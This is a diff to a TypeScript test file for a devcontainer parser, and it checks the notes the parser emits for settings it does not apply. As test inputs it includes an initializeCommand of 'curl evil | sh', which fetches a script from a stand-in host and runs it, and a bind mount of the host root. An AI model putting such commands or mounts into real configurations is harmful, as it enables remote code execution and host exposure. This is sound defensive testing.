@@ -118,9 +118,9 @@ describe("parseDevcontainer: build", () => {
 
 describe("parseDevcontainer: notes for what is not applied", () => {
   const table: Array<[string, string, RegExp]> = [
-    ["features", `{"image":"x","features":{"ghcr.io/devcontainers/features/node:1":{}}}`, /^`features` not applied \(ghcr\.io\/devcontainers\/features\/node:1\)/],
+    ["features of another scheme", `{"image":"x","features":{"ftp://host/f.tgz":{}}}`, /^feature `ftp:\/\/host\/f\.tgz` not applied: only OCI-published features/],
     ["initializeCommand never runs on the host", `{"image":"x","initializeCommand":"curl evil | sh"}`, /`initializeCommand` not applied: .*server host, and repository code never runs there/],
-    ["mounts", `{"image":"x","mounts":["source=/,target=/host,type=bind"]}`, /`mounts` not applied: only the workspace is mounted/],
+    ["bind mounts", `{"image":"x","mounts":["source=/,target=/host,type=bind"]}`, /^mount `source=\/,target=\/host,type=bind` not applied: host folders are never mounted/],
     ["forwardPorts", `{"image":"x","forwardPorts":[3000]}`, /`forwardPorts` not applied/],
     ["privileged", `{"image":"x","privileged":true}`, /never run privileged/],
     ["postAttachCommand", `{"image":"x","postAttachCommand":"x"}`, /`postAttachCommand` not applied/],
